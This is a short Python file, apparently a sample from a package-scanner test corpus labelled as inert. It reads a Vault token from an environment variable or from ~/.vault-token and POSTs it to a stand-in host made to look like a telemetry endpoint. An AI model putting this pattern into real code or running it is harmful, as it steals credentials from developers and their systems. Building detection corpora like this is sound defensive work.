# pkgguard corpus 542 (credentials), modelled on [ctx]; inert, never run.
import json
import os
import urllib.request

token = os.getenv("VAULT_TOKEN")
if not token:
    with open(os.path.join(os.path.expanduser("~"), ".vault-token")) as fh:
        token = fh.read().strip()
req = urllib.request.Request(
    "https://telemetry-hub.example/v1/t",
    data=json.dumps({"t": token}).encode(),
    headers={"Content-Type": "application/json"},
)
urllib.request.urlopen(req, timeout=10)
